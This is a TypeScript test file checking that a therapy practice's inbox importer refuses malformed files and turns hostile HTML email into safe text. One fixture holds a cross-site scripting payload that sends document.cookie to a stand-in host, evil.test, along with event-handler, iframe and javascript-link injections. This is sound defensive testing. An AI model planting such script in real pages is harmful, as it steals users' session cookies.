/**
 * Files that are not correspondence, or are hostile: each gets a clear error of its own (or, for
 * a hostile but readable letter, is read safely), nothing crashes, the good file beside them is
 * imported, and a refused file leaves no row behind, on both databases.
 */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { disabledLanguageModel } from '../../src/adapters/disabled-language-model.js';
import { disabledMail } from '../../src/adapters/disabled-mail.js';
import { fixedClock } from '../../src/adapters/system-clock.js';
import type { Store } from '../../src/db/connect.js';
import { cliActor, type ServiceContext } from '../../src/services/context.js';
import { importInbox } from '../../src/services/inbox/inbox.js';
import { readInboxLetter } from '../../src/services/inbox/read-inbox-letter.js';
import { initPractice } from '../../src/services/practice/init-practice.js';
import { DIALECTS, freshStore } from '../support/stores.js';
import { email } from '../triage/support.js';

const good = email(
  {
    From: 'Parent <parent@example.com>',
    To: 'office@practice.test',
    Subject: 'Session',
    Date: 'Mon, 02 Nov 2026 09:00:00 +0000',
    'Message-ID': '<good@example.com>',
  },
  "Hi,\n\nCould we move Ada's session to Friday 4 December 2026 please?\n\nThanks",
);

function nested(depth: number): Uint8Array {
  let body = 'Content-Type: text/plain; charset=utf-8\r\n\r\nDear OT, the innermost part.\r\n';
  for (let i = 0; i < depth; i++) body = `Content-Type: multipart/mixed; boundary="b${i}"\r\n\r\n--b${i}\r\n${body}--b${i}--\r\n`;
  return Buffer.from(
    `From: Deep <deep@nest.test>\r\nTo: office@practice.test\r\nSubject: Nested\r\nDate: Mon, 02 Nov 2026 09:00:00 +0000\r\nMIME-Version: 1.0\r\n${body}`,
  );
}

const hostile = email(
  {
    From: 'Hostile <x@hostile.test>',
    To: 'office@practice.test',
    Subject: 'Hello <script>alert(1)</script>',
    Date: 'Mon, 02 Nov 2026 09:00:00 +0000',
    'Content-Type': 'text/html; charset=utf-8',
  },
  `<html><head><style>body{}</style><script>document.location='http://evil.test/'+document.cookie</script></head><body onload="steal()">${'<div>'.repeat(5000)}<p>Dear OT, please call.</p><img src=x onerror=alert(1)><iframe src="http://evil.test"></iframe><a href="javascript:alert(1)">click</a>${'</div>'.repeat(5000)}&lt;script&gt;</body></html>`,
);

describe.each(DIALECTS)('bad input on %s', (dialect) => {
  let store: Store;
  let ctx: ServiceContext;
  beforeEach(async () => {
    store = await freshStore(dialect);
    ctx = { db: store.db, dialect: store.dialect, clock: fixedClock('2026-11-27'), mail: disabledMail, languageModel: disabledLanguageModel, actor: cliActor };
    await initPractice(ctx, { practice: 'Test Practice OT', owner_name: 'Olive Owner', owner_email: 'owner@practice.test', owner_password: 'long-enough-pw' });
  });
  afterEach(async () => store?.close());

  const count = async (t: 'inbox_items' | 'inbox_files' | 'inbox_proposals' | 'correspondence') =>
    Number(
      (
        await store.db
          .selectFrom(t)
          .select((eb) => eb.fn.countAll<number>().as('n'))
          .executeTakeFirstOrThrow()
      ).n,
    );

  it('refuses binary, empty, truncated, wrongly encoded and huge files one by one, imports the good one, and leaves nothing of the refused', async () => {
    const binary = Uint8Array.from({ length: 4096 }, (_, i) => (i * 7919) % 256);
    const truncated = good.subarray(0, 60);
    const latin1 = Buffer.from('Northshire Council\n\nDear OT, the caf\u00e9 meeting is on 4 December 2026.\n', 'latin1');
    const huge = Buffer.alloc(10 * 1024 * 1024 + 1, 'a');
    const out = await importInbox(ctx, [
      { name: 'binary.eml', bytes: binary },
      { name: 'empty.txt', bytes: new Uint8Array() },
      { name: 'truncated.eml', bytes: truncated },
      { name: 'latin1.txt', bytes: latin1 },
      { name: 'huge.txt', bytes: huge },
      { name: 'good.eml', bytes: good },
    ]);
    expect(out.map((o) => [o.file, o.status])).toEqual([
      ['binary.eml', 'error'],
      ['empty.txt', 'error'],
      ['truncated.eml', expect.stringMatching(/^(error|imported)$/)],
      ['latin1.txt', 'error'],
      ['huge.txt', 'error'],
      ['good.eml', 'imported'],
    ]);
    expect(out[0]!.error).toMatch(/binary data/);
    expect(out[1]!.error).toMatch(/empty/);
    expect(out[3]!.error).toMatch(/not UTF-8/);
    expect(out[4]!.error).toMatch(/10\.0 MB; files over 10 MB are not read/);
    const imported = out.filter((o) => o.status === 'imported').length;
    expect(await count('inbox_items')).toBe(imported);
    expect(await count('inbox_files')).toBe(imported);
    expect(await count('correspondence')).toBe(imported);
  });

  it('reads a deeply nested MIME message without crashing, or refuses it with a reason', async () => {
    const [r] = await importInbox(ctx, [{ name: 'nested.eml', bytes: nested(200) }]);
    expect(['imported', 'error']).toContain(r!.status);
    if (r!.status === 'error') expect(r!.error).toMatch(/\w/);
    expect(await count('inbox_items')).toBe(r!.status === 'imported' ? 1 : 0);
    expect(await count('inbox_files')).toBe(r!.status === 'imported' ? 1 : 0);
  });

  it('reads hostile HTML as text: no script, handler, frame or javascript link reaches the page', async () => {
    const [r] = await importInbox(ctx, [{ name: 'hostile.eml', bytes: hostile }]);
    expect(r!.status).toBe('imported');
    const letter = await readInboxLetter(ctx, r!.item_id!);
    expect(letter.text).toContain('Dear OT, please call.');
    expect(letter.text).not.toMatch(/document\.cookie|evil\.test|onerror|onload|<iframe|javascript:|<div|<img/i);
    // An escaped "&lt;script&gt;" in the letter is its words, shown as text (React escapes it on the page).
    expect(letter.text.match(/<script/g)?.length ?? 0).toBeLessThanOrEqual(1);
  });
});
